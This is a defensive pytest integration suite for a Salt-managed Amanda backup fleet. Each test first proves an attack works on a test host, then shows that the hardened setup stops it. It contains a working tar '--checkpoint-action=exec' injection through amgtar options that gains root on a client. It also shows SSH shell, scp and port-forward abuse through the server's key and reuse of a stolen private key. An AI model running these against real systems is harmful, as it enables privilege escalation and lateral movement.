"""Least power, and secrets that stay secret: each attack is first seen to work.

For that the defence is taken out of the test's host, never by a switch in the product.
"""

import base64
import contextlib
import secrets

import pytest

from tests.integration import backups, fleet, leaks
from tests.integration.backups import SERVER

KEY = "/var/backups/.ssh/id_ed25519"
AUTHORIZED = "/var/backups/.ssh/authorized_keys"
PROOF = "/var/tmp/security-proof"
LIBEXEC = "/usr/lib/amanda"


@pytest.fixture(autouse=True)
def no_proof(fleet):
    """Start and end without a proof of any attack."""
    for host in fleet.minions:
        fleet.run(host, ["rm", "-f", PROOF])
    yield
    for host in fleet.minions:
        fleet.run(host, ["rm", "-f", PROOF])


def proof(bed, host):
    """Return what an attack left on a host; None if nothing."""
    done = bed.run(host, ["cat", PROOF], check=False)
    return done.stdout.decode().strip() if done.returncode == 0 else None


# --- amandad: what the server may make of a client ---

EVIL = f"""
dumpuser "backup"
dumpcycle 7 days
tapecycle 2 tapes
infofile "/var/tmp/evil/info"
logdir "/var/tmp/evil/log"
indexdir "/var/tmp/evil/index"
tapelist "/var/tmp/evil/tapelist"
tapedev "chg-disk:/var/tmp/evil/tapes"
define tapetype any {{
    length 100 mbytes
}}
tapetype any
define application-tool evil {{
    plugin "amgtar"
    property "GNUTAR-PATH" "/usr/bin/tar"
    property "ATIME-PRESERVE" "NO"
    property "COMMAND-OPTIONS" "--checkpoint=1" "--checkpoint-action=exec=id -u >{PROOF}"
}}
define dumptype evil {{
    auth "ssh"
    ssh-keys "{KEY}"
    client-username "backup"
    amandad-path "{LIBEXEC}/amandad"
    program "APPLICATION"
    application "evil"
    estimate client
}}
"""
SHIPPED = f"""
    set -eu
    chown root:backup {LIBEXEC}/application/amgtar
    chmod 4750 {LIBEXEC}/application/amgtar
    printf 'runtar:gnutar_path=/usr/bin/tar\\namgtar:gnutar_path=/usr/bin/tar\\n' \
        > /etc/amanda-security.conf
"""


@pytest.fixture
def evil(fleet):
    """Give the function by which a server that is an attacker's has a client run a command."""
    backups.good(backups.run(fleet, "check"))  # the server has its ssh config

    def attack(client):
        places = [f"/var/tmp/evil/{name}" for name in ("log", "index", "tapes")]
        own = ["install", "-d", "-o", "backup", "/etc/amanda/evil", "/var/tmp/evil", *places]
        fleet.run(SERVER, own)
        fleet.write(SERVER, "/etc/amanda/evil/amanda.conf", EVIL.encode())
        fleet.write(SERVER, "/etc/amanda/evil/disklist", f"{client} /etc/apt evil\n".encode())
        fleet.run(SERVER, ["runuser", "-u", "backup", "--", "amdump", "evil"], check=False)
        fleet.run(SERVER, ["grep", "-rq", "/etc/apt 0 SIZE", "/var/log/amanda/server/evil"])
        return proof(fleet, client)

    yield attack
    fleet.run(
        SERVER, ["rm", "-rf", "/etc/amanda/evil", "/var/tmp/evil", "/var/log/amanda/server/evil"]
    )


def test_as_shipped_the_server_makes_itself_root_on_a_client_by_an_option_of_tar(fleet, evil):
    fleet.run("web1", ["sh", "-c", SHIPPED])
    try:
        assert evil("web1") == "0"
    finally:
        repaired = fleet_changes(fleet, "web1")
    assert repaired == ["hardened Amanda"]


def fleet_changes(bed, minion):
    """Apply the state backup on a minion and return the states that changed something."""
    return fleet.changed(fleet.apply(bed, minion)[minion])


def test_hardened_the_same_option_gives_no_more_than_the_dump_user_has(fleet, evil):
    (user,) = fleet.run("web1", ["id", "-u", "backup"]).stdout.split()
    assert evil("web1") == user.decode() != "0"


# --- SSH: what the server's key opens ---


def ssh(bed, host, target, *words, program="ssh", key=KEY, user="backup", options=(), check=False):
    """Run ssh or scp on a host as the dump user, without any configuration that would stop it."""
    argv = ["runuser", "-u", user, "--", "timeout", "8", program, "-F", "/dev/null", "-i", key]
    argv += ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR"]
    argv += ["-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", *options]
    argv += [f"backup@{bed.address(target)}" if program == "ssh" else "--", *words]
    return bed.run(host, argv, input=b"", check=check, timeout=60)


def shell(bed):
    """Run a command on a client."""
    ssh(bed, SERVER, "web1", f"id -u > {PROOF}")
    return proof(bed, "web1") is not None


def copy(bed):
    """Copy a file to a client."""
    ssh(
        bed, SERVER, "web1", "/etc/hostname", f"backup@{bed.address('web1')}:{PROOF}", program="scp"
    )
    return proof(bed, "web1") is not None


def subsystem(bed):
    """Copy a file to a client by the older protocol."""
    words = ["-O", "/etc/hostname", f"backup@{bed.address('web1')}:{PROOF}"]
    options = words[:1]
    ssh(bed, SERVER, "web1", *words[1:], program="scp", options=options)
    return proof(bed, "web1") is not None


def forward(bed):
    """Reach a service that listens on the client's loopback alone, here its own sshd."""
    ask = "exec 3<>/dev/tcp/127.0.0.1/47222 && head -c 4 <&3"  # the banner of what is forwarded
    script = f"""
        "$@" & tunnel=$!
        for try in 1 2 3 4 5 6 7 8 9 10; do
            sleep 0.3
            answer=$(timeout 5 bash -c '{ask}' 2>/dev/null) && break
        done
        kill $tunnel
        echo "$answer"
    """
    argv = ["ssh", "-N", "-F", "/dev/null", "-i", KEY, "-o", "BatchMode=yes"]
    argv += ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
    argv += ["-L", "127.0.0.1:47222:127.0.0.1:22", f"backup@{bed.address('web1')}"]
    runner = ["runuser", "-u", "backup", "--", "bash", "-c", script, "bash", *argv]
    return bed.run(SERVER, runner, timeout=60).stdout == b"SSH-\n"


@contextlib.contextmanager
def authorized(bed, host, change):
    """Change a host's authorized_keys by a function of its text for this block."""
    before = bed.read(host, AUTHORIZED)
    bed.write(host, AUTHORIZED, change(before))
    try:
        yield
    finally:
        bed.write(host, AUTHORIZED, before)


def bare(text):
    """Return authorized_keys without what comes before each key."""
    lines = [line[line.index(b"ssh-ed25519 ") :] for line in text.splitlines() if line]
    return b"\n".join(lines) + b"\n"


def from_anywhere(text):
    """Return authorized_keys without the addresses."""
    before, _, rest = text.partition(b'from="')
    return before + rest.partition(b'",')[2]


@pytest.mark.parametrize("attack", [shell, copy, subsystem, forward])
def test_the_servers_key_alone_opens_everything_and_as_authorized_nothing_but_amanda(fleet, attack):
    with authorized(fleet, "web1", bare):
        assert attack(fleet)
    fleet.run("web1", ["rm", "-f", PROOF])
    assert not attack(fleet)
    assert ssh(fleet, SERVER, "web1").returncode == 0  # amandad, at the end of its input


def test_a_stolen_copy_of_the_servers_key_is_of_no_use_elsewhere(fleet):
    key = "/var/tmp/stolen"
    stolen = fleet.read(SERVER, KEY)
    fleet.run("web1", ["install", "-m", "400", "-o", "backup", "/dev/stdin", key], input=stolen)
    try:
        with authorized(fleet, "db1", from_anywhere):
            assert ssh(fleet, "web1", "db1", key=key).returncode == 0
        refused = ssh(fleet, "web1", "db1", key=key)
        assert refused.returncode == 255 and b"Permission denied" in refused.stderr
    finally:
        fleet.run("web1", ["rm", key])


def test_no_key_of_a_client_opens_anything_on_the_server(fleet):
    key = "/var/tmp/own-key"
    script = f"rm -f {key}*; runuser -u backup -- ssh-keygen -q -t ed25519 -N '' -f {key}"
    fleet.run("web1", ["sh", "-c", script])
    public = fleet.read("web1", f"{key}.pub")
    try:
        with authorized(fleet, SERVER, lambda text: text + public):
            assert ssh(fleet, "web1", SERVER, "true", key=key).returncode == 0
        refused = ssh(fleet, "web1", SERVER, "true", key=key)
        assert refused.returncode == 255 and b"Permission denied" in refused.stderr
    finally:
        fleet.run("web1", ["rm", key, f"{key}.pub"])


def test_the_dump_user_can_not_let_another_key_in(fleet):
    for host in fleet.minions:
        argv = ["runuser", "-u", "backup", "--", "sh", "-c"]
        for attempt in (f"echo x >> {AUTHORIZED}", f"mv {AUTHORIZED} {AUTHORIZED}2"):
            assert fleet.run(host, [*argv, attempt], check=False).returncode != 0


# --- secrets ---


def test_what_is_told_is_searched_well_enough_to_find_a_secret_that_was(fleet):
    """The proof of the search: a secret that is given away is found wherever it went."""
    marks = {place: secrets.token_hex(16) for place in ("argv", "mine", "log", "disk")}
    with leaks.watched(fleet):
        fleet.salt(SERVER, "cmd.run", f"sleep 0.3; true {marks['argv']}")
        fleet.salt("web1", "mine.send", "test.echo", marks["mine"])
        fleet.salt("web1", "cmd.run", f"/no/{marks['log']}", check=False)  # logged as an error
        fleet.write("db1", "/var/tmp/leaks-here", marks["disk"].encode())
    try:
        found = {place: leaks.found(fleet, [mark.encode()]) for place, mark in marks.items()}
    finally:
        fleet.run("db1", ["rm", "/var/tmp/leaks-here"])
        fleet.salt("web1", "mine.delete", "test.echo")
        leaks.clean(fleet)
    assert f"{SERVER}:{leaks.PROCESSES}" in found["argv"]
    assert f"master:{leaks.EVENTS}" in found["argv"]
    assert any(place.startswith("master:/var/cache/salt/master/jobs/") for place in found["argv"])
    assert any(place.startswith("master:/var/cache/salt/master/") for place in found["mine"])
    assert "web1:/var/log/salt/minion" in found["log"]
    assert found["disk"] == ["db1:/var/tmp/leaks-here"]


def private_lines(key):
    """Return the part of a private SSH key that is secret, in each form that it could appear in."""
    body = b"".join(line for line in key.splitlines() if not line.startswith(b"-"))
    raw = base64.b64decode(body)
    public = raw[raw.index(b"ssh-ed25519") + 15 :][:32]
    seed = raw[raw.rindex(public) - 32 :][:32]
    lines = [line for line in key.splitlines() if not line.startswith(b"-")]
    half = base64.b64encode(raw)[len(base64.b64encode(raw)) // 2 :][:24]
    return [seed.hex().encode(), base64.b64encode(seed)[:40], half, *lines[2:]]


def test_the_form_in_which_a_private_key_is_searched_is_not_in_its_public_half(fleet):
    needles = private_lines(fleet.read(SERVER, KEY))
    public = fleet.read(SERVER, AUTHORIZED)
    assert len(needles) >= 4 and not [needle for needle in needles if needle in public]


def test_no_secret_is_told_by_a_run_an_apply_or_a_restore(fleet):
    with leaks.watched(fleet):
        backups.good(backups.run(fleet, "backup"))
        fleet_changes(fleet, SERVER)
        restored = fleet.salt(SERVER, "amanda.recover", "web1", "/etc/hostname")[SERVER]
        fleet.salt(SERVER, "amanda.status")
    (identity,) = [
        line
        for line in fleet.read(SERVER, "/etc/salt-amanda/age/identity").splitlines()
        if line.startswith(b"AGE-SECRET-KEY-")
    ]
    needles = [identity, *private_lines(fleet.read(SERVER, KEY))]
    try:
        # Seen at work: what crypt-age becomes, since itself it is there for a moment only.
        assert (
            fleet.run(SERVER, ["grep", "-c", "recipients-file", leaks.PROCESSES]).stdout != b"0\n"
        )
        assert fleet.run("master", ["grep", "-c", "daily/finished", leaks.EVENTS]).stdout != b"0\n"
        assert leaks.found(fleet, needles) == []
    finally:
        leaks.clean(fleet)
        fleet.run(SERVER, ["rm", "-r", restored["restored"].rpartition("/")[0]])


def test_each_secret_is_its_owners_alone(fleet):
    shown = "stat -c '%a %U %n' /etc/salt-amanda/age/identity /etc/salt-amanda/ssh/* " + KEY
    assert fleet.run(SERVER, ["sh", "-c", shown]).stdout.decode().splitlines() == [
        "400 backup /etc/salt-amanda/age/identity",
        "600 root /etc/salt-amanda/ssh/id_ed25519",
        f"400 backup {KEY}",
    ]
